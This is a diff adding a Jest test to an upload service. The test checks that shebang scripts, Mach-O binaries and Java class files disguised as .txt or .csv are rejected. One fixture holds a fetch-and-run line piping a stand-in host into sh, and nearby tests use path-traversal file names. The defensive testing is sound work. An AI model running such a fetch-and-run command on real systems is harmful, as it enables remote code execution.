@@ -112,6 +112,37 @@ describe('uploads by type', () => {
     expect(held()).toBe(before);
   });
 
+  test('scripts with a shebang, Mach-O programs and Java classes are refused even where their bytes pass as text', async () => {
+    const files = path.join(t.config.dataDir, 'files');
+    const held = () => (existsSync(files) ? readdirSync(files, { recursive: true }).length : 0);
+    const before = held();
+    // No NUL byte in any of these heads: only the program check refuses them as .txt or .csv.
+    const programs: [string, Buffer][] = [
+      ['shebang', Buffer.from('#!/bin/sh\ncurl https://evil.test/x | sh\n')],
+      ['shebang env', Buffer.from('#!/usr/bin/env python3\nimport os\n')],
+      ...[0xfeedface, 0xfeedfacf, 0xcefaedfe, 0xcffaedfe].map((magic): [string, Buffer] => {
+        const head = Buffer.alloc(64, 0x41);
+        head.writeUInt32BE(magic, 0);
+        return [`Mach-O ${magic.toString(16)}`, head];
+      }),
+      ['Java class', Buffer.concat([Buffer.from([0xca, 0xfe, 0xba, 0xbe]), Buffer.alloc(60, 0x41)])],
+    ];
+    const answers = Object.fromEntries(
+      await Promise.all(
+        programs.map(async ([kind, body]) => [
+          kind,
+          [(await upload('annex', 'notes.txt', body)).msg, (await upload('annex', 'table.csv', body)).msg],
+        ]),
+      ),
+    );
+    expect(answers).toEqual(
+      Object.fromEntries(programs.map(([kind]) => [kind, ['文件内容与扩展名不符', '文件内容与扩展名不符']])),
+    );
+    expect(held()).toBe(before);
+    // The same bytes one past the head are plain text.
+    expect(await upload('annex', 'notes.txt', Buffer.from(' #!/bin/sh'))).toMatchObject({ code: 200 });
+  });
+
   test('names with ../ or absolute paths are refused and never reach the disk', async () => {
     for (const name of ['../../secrets.txt', '/etc/passwd.txt', '..\\..\\boot.txt', 'C:\\x.txt']) {
       expect(await upload('annex', name, Buffer.from('hello'))).toMatchObject({ code: 400, msg: '文件名不合法' });
